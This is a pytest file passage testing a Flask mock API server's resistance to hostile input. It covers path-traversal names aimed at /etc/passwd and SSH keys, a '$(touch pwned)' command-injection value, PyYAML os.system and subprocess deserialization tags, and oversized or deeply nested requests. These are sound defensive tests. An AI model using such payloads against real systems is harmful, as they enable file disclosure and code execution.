    f"{API}?business_uuid={B1}&include=users,partner_integrations&per_page=3&page=2",
    f"{API}/available",
    f"{API}/available?search=%F0%9F%98%80",
    f"{API}/wholesalers",
    f"{API}/{P01}",
    f"{API}/{P02}?include=users",
    # errors too: HEAD answers the GET's status and headers
    API,
    f"{API}?business_uuid={B1}&page=0",
    f"{API}/{'0' * 8}-0000-4000-8000-{'0' * 12}",
    f"{API}/..%2fetc%2fpasswd",
    f"{API}/not-a-uuid",
    "/__admin/health",
    "/__admin/data",
    "/__admin/click-events",
    "/__admin/requests/count",
    "/nope",
]


@pytest.mark.parametrize("target", GET_TARGETS)
def test_head_is_get_without_a_body(app: Flask, target: str) -> None:
    client = plain_client(app)  # conftest's spec check reads a HEAD 404's empty body as JSON
    with unchanged(client):
        get = send(client, "GET", target)
        head = send(client, "HEAD", target)
        assert head.status_code == get.status_code
        assert head.get_data() == b""
        assert head.headers.get("Content-Type") == get.headers.get("Content-Type") == JSON
        assert head.headers.get("Content-Length") == str(len(get.get_data()))


@pytest.mark.parametrize(
    ("target", "template", "allow"),
    [
        (f"{API}/{P01}/click_event", "/api/v1/partners/{id}/click_event", "POST, OPTIONS"),
        (f"{API}/{P01}/connect", "/api/v1/partners/{id}/connect", "DELETE, PATCH, OPTIONS"),
    ],
)
def test_head_where_there_is_no_get_is_405(app: Flask, target: str, template: str, allow: str) -> None:
    client = plain_client(app)
    with unchanged(client):
        response = send(client, "HEAD", target)
        assert response.status_code == 405
        assert response.get_data() == b""
        assert response.headers["Allow"] == allow
        assert response.mimetype == JSON
        # HEAD has no body to read the document from; GET, refused the same way, shows it.
        get = send(client, "GET", target)
        assert_errors(
            get, 405, item(METHOD_NOT_ALLOWED, f"GET is not allowed on {template}; allowed: {allow}")
        )


SPEC_OPTIONS = [
    (API, "GET, HEAD, OPTIONS"),
    (f"{API}?business_uuid=nope&page=0", "GET, HEAD, OPTIONS"),  # a preflight does not validate
    (f"{API}/available", "GET, HEAD, OPTIONS"),
    (f"{API}/wholesalers", "GET, HEAD, OPTIONS"),
    (f"{API}/{P01}", "GET, HEAD, OPTIONS"),
    (f"{API}/not-a-uuid", "GET, HEAD, OPTIONS"),
    (f"{API}/{P01}/click_event", "POST, OPTIONS"),
    (f"{API}/{P01}/connect", "DELETE, PATCH, OPTIONS"),
]


def _assert_preflight(
    response: TestResponse, allow: set[str], origin: str | None, requested: str | None
) -> None:
    assert response.status_code == 204, (response.status_code, dict(response.headers))
    assert response.get_data() == b""
    assert "text/html" not in response.headers.get("Content-Type", "")
    assert {m.strip() for m in response.headers.get("Allow", "").split(",")} == allow
    assert {m.strip() for m in response.headers.get("Access-Control-Allow-Methods", "").split(",")} == allow
    assert response.headers.get("Access-Control-Allow-Origin") == (origin or "*")
    assert response.headers.get("Access-Control-Allow-Headers") == (
        requested or "Authorization, Content-Type"
    )
    assert response.headers.get("Access-Control-Max-Age") == "600"


@pytest.mark.parametrize(
    ("target", "allow"), SPEC_OPTIONS, ids=[t.removeprefix(API) or "/" for t, _ in SPEC_OPTIONS]
)
@pytest.mark.parametrize(
    ("origin", "requested"),
    [(None, None), ("http://localhost:3000", "authorization, content-type, x-requested-with")],
    ids=["bare", "browser-preflight"],
)
def test_options_on_every_spec_path_is_a_204_preflight(
    client: FlaskClient, target: str, allow: str, origin: str | None, requested: str | None
) -> None:
    headers = {}
    if origin:
        headers = {
            "Origin": origin,
            "Access-Control-Request-Method": allow.split(",")[0],
            "Access-Control-Request-Headers": requested or "",
        }
    with unchanged(client):
        response = send(client, "OPTIONS", target, headers=headers)
        _assert_preflight(response, {m.strip() for m in allow.split(",")}, origin, requested)


ADMIN_OPTIONS = [
    ("/__admin/health", {"GET", "HEAD", "OPTIONS"}),
    ("/__admin/data", {"GET", "HEAD", "OPTIONS"}),
    ("/__admin/click-events", {"GET", "HEAD", "OPTIONS"}),
    ("/__admin/requests", {"GET", "HEAD", "OPTIONS"}),
    ("/__admin/requests/count", {"GET", "HEAD", "OPTIONS"}),
    ("/__admin/reset", {"POST", "OPTIONS"}),
]


@pytest.mark.parametrize(("target", "allow"), ADMIN_OPTIONS, ids=[t for t, _ in ADMIN_OPTIONS])
def test_options_on_admin_paths_is_a_204_preflight_too(
    client: FlaskClient, target: str, allow: set[str]
) -> None:
    """A browser tool on another origin calls /__admin too; its preflight must not be an HTML 200."""
    origin = "http://localhost:3000"
    headers = {"Origin": origin, "Access-Control-Request-Method": "GET"}
    with unchanged(client):
        _assert_preflight(send(client, "OPTIONS", target, headers=headers), allow, origin, None)


@pytest.mark.parametrize("target", ["/nope", f"{API}/{P01}/users", "/api/v1/partners/", "/__admin/nope"])
def test_options_on_an_unknown_path_is_a_json_404(client: FlaskClient, target: str) -> None:
    with unchanged(client):
        response = send(client, "OPTIONS", target, headers={"Origin": "http://localhost:3000"})
        assert_errors(response, 404, item(NOT_FOUND, f"No operation is served at {target}"))


# --------------------------------------------------------------------------------------------------
# scenario names with path traversal


AVAILABLE = ", ".join(list_scenarios(SCENARIOS_DIR))
NOT_A_YAML_PATH = "a scenario path must end in .yaml or .yml"
NOT_A_NAME = "not a scenario name (letters, digits, '_', '-') nor a .yaml path"

TRAVERSAL_NAMES = [
    ("../../etc/passwd", NOT_A_YAML_PATH),
    ("default/../../etc/passwd", NOT_A_YAML_PATH),
    ("....//....//etc/passwd", NOT_A_YAML_PATH),
    ("/proc/self/environ", NOT_A_YAML_PATH),
    ("~/.ssh/id_rsa", NOT_A_YAML_PATH),
    ("..\\..\\windows\\win.ini", NOT_A_YAML_PATH),
    ("..%2f..%2fetc%2fpasswd", NOT_A_NAME),
    ("..", NOT_A_NAME),
    ("default\x00", NOT_A_NAME),
    ("$(touch pwned)", NOT_A_NAME),
    ("{{7*7}}", NOT_A_NAME),
]


def test_the_bundled_scenarios_are_listed_in_name_errors() -> None:
    assert "default" in AVAILABLE.split(", ")


@pytest.mark.parametrize(("name", "problem"), TRAVERSAL_NAMES, ids=[repr(n) for n, _ in TRAVERSAL_NAMES])
def test_scenario_name_with_traversal_is_refused_listing_valid_names(name: str, problem: str) -> None:
    with pytest.raises(ScenarioError) as info:
        load_scenario(name, SCENARIOS_DIR)
    assert info.value.message == f"{problem}; available scenarios: {AVAILABLE}"
    assert info.value.line is None


@pytest.mark.parametrize(
    ("name", "problem"), TRAVERSAL_NAMES[:3], ids=[repr(n) for n, _ in TRAVERSAL_NAMES[:3]]
)
def test_create_app_refuses_a_traversing_scenario(name: str, problem: str) -> None:
    with pytest.raises(ScenarioError) as info:
        create_app(Settings(scenario=name, scenarios_dir=SCENARIOS_DIR, spec_path=SPEC_PATH))
    assert info.value.message == f"{problem}; available scenarios: {AVAILABLE}"
    assert info.value.line is None


@pytest.mark.parametrize("name", ["../../etc/passwd\x00.yaml", "default\x00.yaml", "\x00.yml"])
def test_scenario_path_with_a_nul_byte_is_a_scenario_error(name: str) -> None:
    """Python's open() raises ValueError ("embedded null byte") on such a path: it must not escape."""
    with pytest.raises(ScenarioError) as info:
        create_app(Settings(scenario=name, scenarios_dir=SCENARIOS_DIR, spec_path=SPEC_PATH))
    assert info.value.line is None
    assert "null" in info.value.message.lower() or "nul" in info.value.message.lower(), info.value.message


def test_traversal_to_a_yaml_that_is_not_a_scenario_is_refused_by_the_schema() -> None:
    spec = SPEC_PATH.resolve()
    with pytest.raises(ScenarioError) as info:
        create_app(Settings(scenario=str(spec), scenarios_dir=SCENARIOS_DIR, spec_path=SPEC_PATH))
    assert str(info.value).startswith(f"{spec}:1: openapi: unknown field 'openapi'; allowed: ")


# --------------------------------------------------------------------------------------------------
# hostile scenario files, loaded the way the server loads them


DEFAULT_YAML = (SCENARIOS_DIR / "default.yaml").read_text(encoding="utf-8")
TILLTOP_NAME = "    name: TillTop POS"


def _scenario_file(tmp_path: Path, text: str | bytes) -> Path:
    path = tmp_path / "hostile.yaml"
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def _line_of(text: str, fragment: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if fragment in line)


def _creation_error(path: Path) -> ScenarioError:
    with pytest.raises(ScenarioError) as info:
        create_app(Settings(scenario=str(path), scenarios_dir=SCENARIOS_DIR, spec_path=SPEC_PATH))
    return info.value


@pytest.mark.parametrize(
    ("old", "new", "marker", "problem"),
    [
        (
            "categories: [pos, payments]",
            "categories: [pos, payments",
            "country_code: US",  # where the scanner notices, the line after
            "did not find expected ',' or ']' (while parsing a flow sequence)",
        ),
        (
            TILLTOP_NAME,
            "\tname: TillTop POS",
            "\tname: TillTop POS",
            "found a tab character that violates indentation (while scanning a plain scalar)",
        ),
        (
            "    name: LedgerLeaf",
            "    name: LedgerLeaf: x: y",
            "LedgerLeaf: x: y",
            "mapping values are not allowed in this context",
        ),
    ],
    ids=["unclosed-bracket", "tab", "colons"],
)
def test_invalid_yaml_is_a_scenario_error_with_the_line(
    tmp_path: Path, old: str, new: str, marker: str, problem: str
) -> None:
    assert old in DEFAULT_YAML
    text = DEFAULT_YAML.replace(old, new, 1)
    path = _scenario_file(tmp_path, text)
    error = _creation_error(path)
    assert str(error) == f"{path}:{_line_of(text, marker)}: invalid YAML: {problem}"


def test_unterminated_quote_is_a_scenario_error(tmp_path: Path) -> None:
    text = DEFAULT_YAML.replace("    name: TableTime", "    name: 'TableTime", 1)
    path = _scenario_file(tmp_path, text)
    error = _creation_error(path)
    assert error.message == "invalid YAML: found unexpected end of stream (while scanning a quoted scalar)"


UNSAFE_TAGS = [
    ("root", "!!python/object/apply:os.system", '!!python/object/apply:os.system ["touch {marker}"]\n'),
    (
        "value",
        "!!python/object/apply:os.system",
        '    name: !!python/object/apply:os.system ["touch {marker}"]',
    ),
    (
        "key",
        "!!python/object/apply:os.system",
        '    ? !!python/object/apply:os.system ["touch {marker}"]\n    : x\n' + TILLTOP_NAME,
    ),
    ("new", "!!python/object/new:os.system", '    name: !!python/object/new:os.system ["touch {marker}"]'),
    (
        "subprocess",
        "!!python/object/apply:subprocess.check_output",
        '    name: !!python/object/apply:subprocess.check_output [[touch, "{marker}"]]',
    ),
    ("name", "!!python/name:os.system", "    name: !!python/name:os.system"),
    ("module", "!!python/module:os", "    name: !!python/module:os"),
    (
        "anchor",
        "!!python/object/apply:os.system",
        '    name: &cmd !!python/object/apply:os.system ["touch {marker}"]',
    ),
]


@pytest.mark.parametrize(("where", "tag", "snippet"), UNSAFE_TAGS, ids=[w for w, _, _ in UNSAFE_TAGS])
def test_python_tags_are_refused_and_nothing_runs(tmp_path: Path, where: str, tag: str, snippet: str) -> None:
    marker = tmp_path / "pwned"
    snippet = snippet.format(marker=marker)
    text = snippet if where == "root" else DEFAULT_YAML.replace(TILLTOP_NAME, snippet, 1)
    if where == "anchor":  # and use it again further down
        text = text.replace("    name: LedgerLeaf", "    name: *cmd", 1)
    path = _scenario_file(tmp_path, text)
    error = _creation_error(path)
    line = 1 if where == "root" else _line_of(text, tag)
    assert (
        str(error) == f"{path}:{line}: the tag {tag} is not allowed: scenario files hold plain YAML data only"
    )
    assert not marker.exists(), "the YAML tag was executed"


def test_check_command_refuses_a_python_tag_without_running_it(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    path = _scenario_file(tmp_path, f'!!python/object/apply:os.system ["touch {marker}"]\n')
    result = CliRunner().invoke(cli, ["check", str(path)])
    assert result.exit_code == 1
    assert result.output.strip() == (
        f"error: {path}:1: the tag !!python/object/apply:os.system is not allowed: "
        "scenario files hold plain YAML data only"
    )
    assert "Traceback" not in result.output
    assert not marker.exists()


@pytest.mark.parametrize(
    ("old", "new", "marker", "message"),
    [
        (
            f"partner: {P04}}}",
            "partner: c0000000-0000-4000-8000-000000000099}",
            "000000000099",
            "links[2].partner: 'c0000000-0000-4000-8000-000000000099' is not the id of any of the partners",
        ),
        (
            f"partner: {P04}}}",
            "partner: ../../etc/passwd}",
            "../../etc/passwd",
            "links[2].partner: '../../etc/passwd' is not a lowercase UUID string such as "
            "3f2a9c1e-0000-4000-8000-000000000001",
        ),
        (
            f"default_user: {ALICE}",
            "default_user: a11ce000-0000-4000-8000-000000000009",
            "default_user: a11ce",
            "default_user: 'a11ce000-0000-4000-8000-000000000009' is not the id of any user",
        ),
    ],
    ids=["unknown-partner", "traversal-as-id", "unknown-default-user"],
)
def test_unknown_ids_are_a_scenario_error(
    tmp_path: Path, old: str, new: str, marker: str, message: str
) -> None:
    assert old in DEFAULT_YAML
    text = DEFAULT_YAML.replace(old, new, 1)
    path = _scenario_file(tmp_path, text)
    assert str(_creation_error(path)) == f"{path}:{_line_of(text, marker)}: {message}"


@pytest.mark.parametrize("size_mb", [6, 60])
def test_huge_scenario_is_refused_quickly(tmp_path: Path, size_mb: int) -> None:
    """Over 5 MB is refused before parsing: valid data (not just padding) and without reading it all."""
    head, tail = DEFAULT_YAML.split("integrations:", 1)
    partner = (
        "  - id: c1000000-0000-4000-8000-{n:012d}\n    name: Partner {n} {pad}\n"
        "    categories: [pos]\n    description: {pad}\n"
    )
    pad = "y" * 100
    chunk = "".join(partner.format(n=n, pad=pad) for n in range(1000))
    path = tmp_path / "hostile.yaml"
    with path.open("w", encoding="utf-8") as file:
        file.write(head)
        written = 0
        while written < size_mb * MIB:
            written += file.write(chunk)  # ids repeat: the size check must come before any other
        file.write("integrations:" + tail)
    started = time.perf_counter()
    error = _creation_error(path)
    elapsed = time.perf_counter() - started
    path.unlink()
    assert str(error) == f"{path}: the file is over 5 MB; use Faker data for volume"
    assert elapsed < 5.0, f"refusing a {size_mb} MB file took {elapsed:.1f}s"


# --------------------------------------------------------------------------------------------------
# a live server: what only a real HTTP server sees
#
# `mockserver serve` runs on granian by default and offers waitress too: each live case runs on
# every server the CLI offers. Where the HTTP server itself refuses a request before the app sees it
# (an oversize request line, too many headers), any 4xx that is not HTML is acceptable. Observed:
#   waitress: request line or headers over 256 kB -> 431 text/plain; NUL in a header -> 400 text/plain;
#             everything smaller (100 kB line, 100 kB header, 10,000 headers) reaches the app.
#   granian:  request line of 100 kB -> 414 (no body); over 100 headers -> 431 (no body); a raw NUL
#             in the path or a header -> 400 (no body); a 300 kB header reaches the app.


@pytest.fixture(scope="module", params=server_choices(), ids=lambda s: s or "default")
def live(request: pytest.FixtureRequest) -> Iterator[LiveServer]:
    server = LiveServer.start("--scenario", "default", *server_args(request.param))
    try:
        yield server
    finally:
        server.stop()


def live_getter(live: LiveServer) -> Getter:
    def get(path: str) -> tuple[int, Any]:
        reply = live.request("GET", path)
        return reply.status, reply.json()

    return get


@contextmanager
def live_unchanged(live: LiveServer) -> Iterator[None]:
    """As `unchanged`, on the live server (compared with the state before, not the initial one, so a
    failure here does not cascade into the following cases)."""
    get = live_getter(live)
    before = state_of(get)
    yield
    assert live.alive(), live.output()
    still_serving(get)
    assert state_of(get) == before


def _http11(target: bytes, *extra: bytes, method: bytes = b"GET") -> bytes:
    return b"".join(
        [method, b" ", target, b" HTTP/1.1\r\nHost: 127.0.0.1\r\n", *extra, b"Connection: close\r\n\r\n"]
    )


def _post(target: str, body: bytes, *extra: bytes) -> bytes:
    head = (
        f"POST {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {JSON}\r\n"
        f"Content-Length: {len(body)}\r\n"
    ).encode()
    return head + b"".join(extra) + b"Connection: close\r\n\r\n" + body


def _post_chunked(target: str, body: bytes) -> bytes:
    head = (
        f"POST {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {JSON}\r\n"
        "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    ).encode()
    chunks = [b"%x\r\n%s\r\n" % (len(body[i : i + MIB]), body[i : i + MIB]) for i in range(0, len(body), MIB)]
    return head + b"".join(chunks) + b"0\r\n\r\n"


def _raw_reply(live: LiveServer, payload: bytes, timeout: float = 10.0) -> Reply:
    raw = live.raw(payload, timeout=timeout)
    assert raw, "the server closed the connection without answering"
    reply = parse_raw_response(raw)
    length = reply.headers.get("content-length")
    if length is not None:
        assert len(reply.body) == int(length), (len(reply.body), length)
    return reply


def assert_app_answer_or_server_refusal(reply: Reply, status: int, *items: dict[str, Any]) -> None:
    """The app's exact answer (a JSON error document, or the partner P01 for a 200), or else the HTTP
    server's own refusal: a 4xx, never HTML, never a 5xx."""
    if reply.mimetype == JSON:
        if status == 200:
            assert reply.status == 200, reply.text()
            assert reply.json()["data"]["id"] == P01
        else:
            assert_live_errors(reply, status, *items)
        return
    assert 400 <= reply.status < 500, (reply.status, reply.content_type, reply.text())
    assert "html" not in reply.content_type, reply.content_type


def test_live_http_1_0_request(live: LiveServer) -> None:
    with live_unchanged(live):
        reply = _raw_reply(live, f"GET {API}/{P01} HTTP/1.0\r\n\r\n".encode())
        assert reply.version in (10, 11)
        assert reply.status == 200
        assert reply.mimetype == JSON
        assert reply.json()["data"]["id"] == P01
        assert_live_errors(
            _raw_reply(live, f"GET {API}/nope/connect HTTP/1.0\r\n\r\n".encode()),
            405,
            item(
                METHOD_NOT_ALLOWED,
                "GET is not allowed on /api/v1/partners/{id}/connect; allowed: DELETE, PATCH, OPTIONS",
            ),
        )


def _many_headers(count: int) -> bytes:
    return b"".join(b"X-H%d: v\r\n" % i for i in range(count))


BAD_ID = item(INVALID_PARAMETER, f"id must be a valid uuid, got '{'a' * 60}…'", parameter="id")
WRONG_TOKEN = item(
    UNKNOWN_TOKEN, "The bearer token does not belong to any user of the data set", header="Authorization"
)


def _long_search(size: int) -> dict[str, Any]:
    return item(
        INVALID_PARAMETER, f"search must be at most 256 characters long, got {size}", parameter="search"
    )


BIG_HEADS = [
    # (id, raw request, status the app answers, its error items)
    ("line-8kB-id", _http11(f"{API}/{'a' * 8 * 1024}".encode()), 400, [BAD_ID]),
    ("line-8kB-search", _http11(f"{API}/available?search={'a' * 8192}".encode()), 400, [_long_search(8192)]),
    ("line-100kB-id", _http11(f"{API}/{'a' * 100 * 1024}".encode()), 400, [BAD_ID]),
    (
        "line-100kB-search",
        _http11(f"{API}/available?search={'a' * 102400}".encode()),
        400,
        [_long_search(102400)],
    ),
    ("line-300kB-id", _http11(f"{API}/{'a' * 300 * 1024}".encode()), 400, [BAD_ID]),
    ("header-100kB", _http11(f"{API}/{P01}".encode(), b"X-Big: " + b"a" * 102400 + b"\r\n"), 200, []),
    (
        "auth-header-100kB",
        _http11(f"{API}/{P01}".encode(), b"Authorization: Bearer " + b"a" * 102400 + b"\r\n"),
        401,
        [WRONG_TOKEN],
    ),
    ("header-300kB", _http11(f"{API}/{P01}".encode(), b"X-Big: " + b"a" * 307200 + b"\r\n"), 200, []),
    ("headers-100", _http11(f"{API}/{P01}".encode(), _many_headers(100)), 200, []),
    ("headers-1000", _http11(f"{API}/{P01}".encode(), _many_headers(1000)), 200, []),
    ("headers-10000", _http11(f"{API}/{P01}".encode(), _many_headers(10000)), 200, []),
    ("headers-30000", _http11(f"{API}/{P01}".encode(), _many_headers(30000)), 200, []),
]


@pytest.mark.parametrize(
    ("payload", "status", "items"), [c[1:] for c in BIG_HEADS], ids=[c[0] for c in BIG_HEADS]
)
def test_live_long_request_lines_and_big_headers(
    live: LiveServer, payload: bytes, status: int, items: list[dict[str, Any]]
) -> None:
    with live_unchanged(live):
        assert_app_answer_or_server_refusal(_raw_reply(live, payload), status, *items)


def test_live_nul_byte_in_path(live: LiveServer) -> None:
    with live_unchanged(live):
        nul_id = item(INVALID_PARAMETER, "id must be a valid uuid, got '\\x00'", parameter="id")
        # Percent-encoded, it is the app's to answer.
        assert_live_errors(_raw_reply(live, _http11(f"{API}/%00".encode())), 400, nul_id)
        assert_live_errors(
            _raw_reply(live, _http11(f"{API}/{P01}%00/connect".encode(), method=b"PATCH")),
            400,
            item(INVALID_PARAMETER, f"id must be a valid uuid, got '{P01}\\x00'", parameter="id"),
        )
        # Raw, the HTTP server may refuse the request line itself.
        assert_app_answer_or_server_refusal(
            _raw_reply(live, _http11(f"{API}/".encode() + b"\x00")), 400, nul_id
        )
        assert_app_answer_or_server_refusal(
            _raw_reply(live, _http11(f"{API}/{P01}".encode() + b"\x00/connect", method=b"PATCH")),
            400,
            item(INVALID_PARAMETER, f"id must be a valid uuid, got '{P01}\\x00'", parameter="id"),
        )
        assert_app_answer_or_server_refusal(
            _raw_reply(live, _http11(b"/api/v1/\x00partners")),
            404,
            item(NOT_FOUND, "No operation is served at /api/v1/\x00partners"),
        )


def test_live_nul_byte_in_a_header_is_a_4xx(live: LiveServer) -> None:
    with live_unchanged(live):
        reply = _raw_reply(
            live, _http11(f"{API}/{P01}".encode(), b"Authorization: Bearer alice-token\x00\r\n")
        )
        assert_app_answer_or_server_refusal(reply, 401, WRONG_TOKEN)


def test_live_path_traversal(live: LiveServer) -> None:
    with live_unchanged(live):
        for target in (
            f"{API}/../../etc/passwd",
            f"{API}/..%2f..%2fetc%2fpasswd",
            f"{API}/%2e%2e/%2e%2e/etc/passwd",
        ):
            reply = _raw_reply(live, _http11(target.encode()))
            assert_live_errors(
                reply, 404, item(NOT_FOUND, f"No operation is served at {API}/../../etc/passwd")
            )


@pytest.mark.parametrize("shape", ["arrays", "objects"])
def test_live_deeply_nested_json(live: LiveServer, shape: str) -> None:
    depth = 10_000
    body = ("[" * depth + "]" * depth) if shape == "arrays" else ('{"a":' * depth + "1" + "}" * depth)
    with live_unchanged(live):
        reply = _raw_reply(live, _post(f"{API}/{P01}/click_event", body.encode()))
        assert_live_errors(reply, 400, item(MALFORMED_BODY, "The body is nested too deeply", pointer=""))


def _too_large(size: int) -> dict[str, Any]:
    return item(
        PAYLOAD_TOO_LARGE,
        f"The body is {size} bytes; at most {MIB} bytes are accepted",
        header="Content-Length",
    )


@pytest.mark.parametrize("size", [MIB + 1, 50 * 1000 * 1000], ids=["1MiB+1", "50MB"])
def test_live_oversize_body(live: LiveServer, size: int) -> None:
    """Raw sockets: a server may answer 413 before reading the whole body (http.client then fails
    with a broken pipe before it reads the answer); the answer must be there."""
    with live_unchanged(live):
        reply = _raw_reply(live, _post(f"{API}/{P01}/click_event", _padded_click(size)), timeout=60)
        assert_live_errors(reply, 413, _too_large(size))


@pytest.mark.parametrize(
    "size", [MIB + 1, 2 * MIB, 50 * 1000 * 1000], ids=["1MiB+1-chunked", "2MiB-chunked", "50MB-chunked"]
)
def test_live_oversize_chunked_body_is_413(live: LiveServer, size: int) -> None:
    """Transfer-Encoding: chunked, no Content-Length: the limit holds all the same.

    The body is a valid click padded with whitespace and ending in garbage: reading only the first
    1 MiB of it and storing a click would mean the limit silently truncates instead of refusing.
    """
    body = _padded_click(size - 7) + b"garbage"
    with live_unchanged(live):
        reply = _raw_reply(live, _post_chunked(f"{API}/{P01}/click_event", body), timeout=60)
        assert reply.status == 413, (reply.status, reply.text(300))
        assert reply.mimetype == JSON
        [error] = reply.json()["errors"]
        assert (error["status"], error["code"], error["title"]) == (
            "413",
            "payload_too_large",
            "Request body too large",
        )
        assert str(MIB) in error["detail"], error["detail"]


def test_live_hostile_request_then_a_normal_one_on_the_same_connection(live: LiveServer) -> None:
    """Keep-alive survives a rejected request: the next request on the socket is answered."""
    nested = b"[" * 10_000 + b"]" * 10_000
    first = (
        f"POST {API}/{P01}/click_event HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {JSON}\r\n"
        f"Content-Length: {len(nested)}\r\n\r\n"
    ).encode() + nested
    second = _http11(f"{API}/{P01}".encode())
    with live_unchanged(live):
        raw = live.raw(first + second, responses=2)
        one = parse_raw_response(raw)
        length = int(one.headers["content-length"])
        rest = raw.partition(b"\r\n\r\n")[2]
        assert_live_errors(
            Reply(one.status, one.headers, rest[:length]),
            400,
            item(MALFORMED_BODY, "The body is nested too deeply", pointer=""),
        )
        two = parse_raw_response(rest[length:])
        assert (two.status, two.mimetype) == (200, JSON)
        assert json.loads(two.body)["data"]["id"] == P01


def test_live_server_kept_its_data_and_logged_no_unhandled_error(live: LiveServer) -> None:
    """Last for each server: after all of the above, the data set is as loaded and nothing reached
    the 500 handler."""
    get = live_getter(live)
    still_serving(get)
    assert state_of(get) == INITIAL_STATE
    output = live.output()
    assert "Traceback" not in output, output[-3000:]
    assert "unhandled error" not in output, output[-3000:]
